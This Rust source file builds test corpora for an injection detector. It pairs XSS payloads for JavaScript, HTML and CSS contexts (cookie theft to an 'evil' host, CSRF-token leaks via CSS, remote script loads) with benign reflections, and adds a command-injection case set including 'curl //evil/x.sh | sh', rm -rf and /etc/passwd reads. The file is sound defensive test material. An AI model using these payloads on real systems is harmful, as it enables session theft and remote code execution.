//! Frozen fixture tables the bundled corpora are generated from: exploit
//! payloads per injection context (one or more per public cheat-sheet
//! category), benign reflections, and the command-injection case set.

use crate::corpus::CorpusRecord;
use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine;
use ctxaudit_detector::percent_decode;
use ctxaudit_proxy::vulnsrv::render_page;
use std::collections::BTreeMap;

/// Which sink of the reflective page a payload lands in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sink {
    /// CSS property value (`background-color: ...`).
    Color,
    /// JS double-quoted string literal (`var str = "..."`).
    Id,
    /// HTML text node (`'...'` inside an h2).
    Term,
}

impl Sink {
    fn param(&self) -> &'static str {
        match self {
            Sink::Color => "color",
            Sink::Id => "id",
            Sink::Term => "term",
        }
    }

    fn render(&self, value: &str) -> String {
        match self {
            Sink::Color => render_page(value, "admin", "shoes"),
            Sink::Id => render_page("red", value, "shoes"),
            Sink::Term => render_page("red", "admin", value),
        }
    }
}

/// Exploit payloads: (category, sink, payload sent as the parameter).
/// The server percent-decodes parameters before reflecting, like the
/// reference vulnerable application.
pub const WEB_EXPLOITS: &[(&str, Sink, &str)] = &[
    // --- JavaScript string context
    ("js", Sink::Id, "Admin\";alert(1);\""),
    ("js", Sink::Id, "admin\"; document.write(user);"),
    ("js", Sink::Id, "Hi\"; alert('injection');There."),
    ("js", Sink::Id, "x\";fetch('//evil?c='+document.cookie);\""),
    ("js", Sink::Id, "\";document.location='//evil';\""),
    ("js", Sink::Id, "a\"+alert(1)+\""),
    ("js", Sink::Id, "</script><script>alert(1)</script>"),
    ("js", Sink::Id, "x\";while(true){}\""),
    ("js", Sink::Id, "%22;alert(document.domain);%22"),
    ("js", Sink::Id, "y\"; var im = new Image(); im.src='//evil?'+str;\""),
    ("js", Sink::Id, "x\";eval(atob('YWxlcnQoMSk='));\""),
    ("js", Sink::Id, "admin\";document.forms[0].action='//evil';\""),
    ("js", Sink::Id, "x\";throw Error('p');\""),
    // --- HTML text context
    ("html", Sink::Term, "<script>alert('injection');</script>"),
    ("html", Sink::Term, "<img src=x onerror=alert(1)>"),
    ("html", Sink::Term, "<svg onload=alert(1)>"),
    ("html", Sink::Term, "<a href=\"javascript:alert(1)\">click</a>"),
    ("html", Sink::Term, "<ScRiPt>alert(1)</ScRiPt>"),
    ("html", Sink::Term, "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"),
    ("html", Sink::Term, "<body onload=alert(1)>"),
    ("html", Sink::Term, "<style>@import 'http://evil/x.css';</style>"),
    ("html", Sink::Term, "<script src=//evil.example/x.js></script>"),
    ("html", Sink::Term, "'><script>alert(1)</script>"),
    ("html", Sink::Term, "<details open ontoggle=alert(1)>"),
    ("html", Sink::Term, "<math><mtext></mtext><script>alert(1)</script></math>"),
    ("html", Sink::Term, "<video><source onerror=alert(1)>"),
    ("html", Sink::Term, "<input onfocus=alert(1) autofocus>"),
    ("html", Sink::Term, "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("html", Sink::Term, "<marquee onstart=alert(1)>hi</marquee>"),
    ("html", Sink::Term, "<object data=//evil.example type=text/html></object>"),
    ("html", Sink::Term, "<embed src=//evil.example>"),
    // --- CSS context (scriptless)
    ("css", Sink::Color, "\"}; a[href*='A'] { background: url(//evil?A); }"),
    (
        "css",
        Sink::Color,
        "red }\ninput[name='CSRFToken'][value^='S'] { background: url(//evil?S) }\nx { color: x",
    ),
    ("css", Sink::Color, "red; } body { background: url('//evil/leak') }"),
    ("css", Sink::Color, "red}</style><script>alert(1)</script>"),
    ("css", Sink::Color, "x;}@import url(//evil);x{y:z"),
    ("css", Sink::Color, "url('//evil') ; } h1 { color: red"),
];

/// Exploits that need a body shape the reflective page does not provide
/// (attribute-context breakouts): (category, body template with `{}`,
/// payload).
pub const WEB_EXPLOITS_CUSTOM: &[(&str, &str, &str)] = &[
    (
        "html",
        "<html><body><input type=\"text\" value=\"{}\"></body></html>",
        "\" onmouseover=\"alert(1)",
    ),
    (
        "html",
        "<html><body><input type=\"text\" value=\"{}\"></body></html>",
        "\"><script>alert(1)</script>",
    ),
    (
        "html",
        "<html><body><img alt={}></body></html>",
        "x onerror=alert(1) src=x",
    ),
    (
        "js",
        "<html><script>var n = {};</script></html>",
        "1;alert(1)",
    ),
    (
        "css",
        "<html><style>a { color: {} }</style></html>",
        "red } * { background: url(//evil) }",
    ),
];

/// Benign reflections: (category, sink, value). Values chosen to exercise
/// every inert context: text nodes, quoted attribute values, quoted JS
/// strings, CSS values.
pub const WEB_BENIGN: &[(&str, Sink, &str)] = &[
    ("html", Sink::Term, "shoes"),
    ("html", Sink::Term, "red running shoes"),
    ("html", Sink::Term, "hello world!"),
    ("html", Sink::Term, "item (2 of 10)"),
    ("html", Sink::Term, "a.b-c_d"),
    ("html", Sink::Term, "100% cotton"),
    ("html", Sink::Term, "C++ tutorial"),
    ("html", Sink::Term, "don't stop"),
    ("html", Sink::Term, "rock & roll"),
    ("html", Sink::Term, "2 > 1"),
    ("html", Sink::Term, "user@example.com"),
    ("html", Sink::Term, "https://example.com/page?x=1"),
    ("html", Sink::Term, "caf\u{e9} au lait"),
    ("html", Sink::Term, "\u{65e5}\u{672c}\u{8a9e} search"),
    ("html", Sink::Term, "price: $19.99"),
    ("html", Sink::Term, "semi;colons are fine"),
    ("html", Sink::Term, "slash/dot.question?"),
    ("html", Sink::Term, "&amp; stays encoded"),
    ("js", Sink::Id, "admin"),
    ("js", Sink::Id, "alice123"),
    ("js", Sink::Id, "user_name"),
    ("js", Sink::Id, "first last"),
    ("js", Sink::Id, "it's fine"),
    ("js", Sink::Id, "path/to/file"),
    ("js", Sink::Id, "a=b&c=d"),
    ("js", Sink::Id, "(parens) are ok"),
    ("js", Sink::Id, "semi;colon"),
    ("js", Sink::Id, "curly{brace}"),
    ("js", Sink::Id, "back`tick"),
    ("js", Sink::Id, "caf\u{e9}"),
    ("js", Sink::Id, "x = y + z"),
    ("js", Sink::Id, "100%"),
    ("css", Sink::Color, "red"),
    ("css", Sink::Color, "blue"),
    ("css", Sink::Color, "#ff0000"),
    ("css", Sink::Color, "rgb(10, 20, 30)"),
    ("css", Sink::Color, "hsl(120, 50%, 50%)"),
    ("css", Sink::Color, "lightgoldenrodyellow"),
    ("css", Sink::Color, "var(--main-color)"),
    ("css", Sink::Color, "rgba(0,0,0,0.5)"),
];

/// Benign reflections inside quoted attribute values: (category, body
/// template with `{}`, value).
pub const WEB_BENIGN_CUSTOM: &[(&str, &str, &str)] = &[
    ("html", "<html><body><input type=\"text\" value=\"{}\"></body></html>", "blue suede shoes"),
    ("html", "<html><body><a href=\"/search?q={}\">results</a></body></html>", "running+shoes"),
    ("html", "<html><body><img alt=\"{}\" src=\"/x.png\"></body></html>", "portrait of a cat"),
    ("html", "<html><body><option value=\"{}\">pick</option></body></html>", "size-10 (wide)"),
];

/// Benign shell commands where the reflection is a single operand:
/// (command, tainted parameter value).
pub const SHELL_BENIGN: &[(&str, &str)] = &[
    ("ls -la /tmp/files", "/tmp/files"),
    ("grep pattern file.txt", "pattern"),
    ("tar -cf backup.tar docs", "docs"),
];

/// The command-injection case set: (command, tainted parameter value,
/// ground-truth label, expected verdict). Fully tainted single-token
/// commands are attacks the wrapper documentedly does not flag.
pub const SHELL_CASES: &[(&str, &str, &str, &str)] = &[
    (
        "cat userinfo.txt | grep Auditor; rm userinfo.txt",
        "Auditor; rm userinfo.txt",
        "malicious",
        "malicious",
    ),
    ("whoami", "whoami", "malicious", "benign"),
    ("ls", "ls", "malicious", "benign"),
    ("grep Auditor userinfo.txt", "Auditor", "benign", "benign"),
    (
        "ping -c 1 example.com; curl //evil/x.sh | sh",
        "example.com; curl //evil/x.sh | sh",
        "malicious",
        "malicious",
    ),
    ("echo hello && rm -rf /tmp/x", "hello && rm -rf /tmp/x", "malicious", "malicious"),
    ("echo $(cat /etc/passwd)", "$(cat /etc/passwd)", "malicious", "malicious"),
    ("tar -xf archive.tar", "archive.tar", "benign", "benign"),
    ("echo `id`", "`id`", "malicious", "malicious"),
    ("convert img.png -resize 10x10 out.png", "img.png", "benign", "benign"),
];

fn record(
    label: &str,
    category: &str,
    kind: &str,
    params: BTreeMap<String, String>,
    body: Option<&[u8]>,
    command: Option<&[u8]>,
    expected: &str,
) -> CorpusRecord {
    CorpusRecord {
        label: label.to_string(),
        category: category.to_string(),
        kind: kind.to_string(),
        request_params: params,
        response_body_b64: body.map(|b| B64.encode(b)),
        command_b64: command.map(|b| B64.encode(b)),
        expected: expected.to_string(),
    }
}

/// The malicious web corpus: reflective-page records plus the custom-body
/// attribute-context records.
pub fn web_exploit_records() -> Vec<CorpusRecord> {
    let mut out = Vec::new();
    for (category, sink, payload) in WEB_EXPLOITS {
        // the server reflects the decoded value
        let reflected =
            String::from_utf8_lossy(&percent_decode(payload.as_bytes(), false)).into_owned();
        let body = sink.render(&reflected);
        let mut params = BTreeMap::new();
        params.insert(sink.param().to_string(), payload.to_string());
        out.push(record(
            "malicious",
            category,
            "html-document",
            params,
            Some(body.as_bytes()),
            None,
            "malicious",
        ));
    }
    for (category, template, payload) in WEB_EXPLOITS_CUSTOM {
        let body = template.replacen("{}", payload, 1);
        let mut params = BTreeMap::new();
        params.insert("q".to_string(), payload.to_string());
        out.push(record(
            "malicious",
            category,
            "html-document",
            params,
            Some(body.as_bytes()),
            None,
            "malicious",
        ));
    }
    out
}

pub fn web_benign_records() -> Vec<CorpusRecord> {
    let mut out = Vec::new();
    for (category, sink, value) in WEB_BENIGN {
        let body = sink.render(value);
        let mut params = BTreeMap::new();
        params.insert(sink.param().to_string(), value.to_string());
        out.push(record(
            "benign",
            category,
            "html-document",
            params,
            Some(body.as_bytes()),
            None,
            "benign",
        ));
    }
    for (category, template, value) in WEB_BENIGN_CUSTOM {
        let body = template.replacen("{}", value, 1);
        let mut params = BTreeMap::new();
        params.insert("q".to_string(), value.to_string());
        out.push(record(
            "benign",
            category,
            "html-document",
            params,
            Some(body.as_bytes()),
            None,
            "benign",
        ));
    }
    for (command, taint) in SHELL_BENIGN {
        let mut params = BTreeMap::new();
        params.insert("arg".to_string(), taint.to_string());
        out.push(record(
            "benign",
            "shell",
            "shell-command",
            params,
            None,
            Some(command.as_bytes()),
            "benign",
        ));
    }
    // a multi-parameter record: every sink reflects at once
    let mut params = BTreeMap::new();
    params.insert("color".to_string(), "navy".to_string());
    params.insert("id".to_string(), "carol".to_string());
    params.insert("term".to_string(), "winter coats".to_string());
    let body = render_page("navy", "carol", "winter coats");
    out.push(record(
        "benign",
        "html",
        "html-document",
        params,
        Some(body.as_bytes()),
        None,
        "benign",
    ));
    out
}

pub fn shell_records() -> Vec<CorpusRecord> {
    SHELL_CASES
        .iter()
        .map(|(command, taint, label, expected)| {
            let mut params = BTreeMap::new();
            params.insert("term".to_string(), taint.to_string());
            record(
                label,
                "shell",
                "shell-command",
                params,
                None,
                Some(command.as_bytes()),
                expected,
            )
        })
        .collect()
}

pub fn to_jsonl(records: &[CorpusRecord]) -> String {
    let mut out = String::new();
    for r in records {
        out.push_str(&serde_json::to_string(r).expect("record serializes"));
        out.push('\n');
    }
    out
}
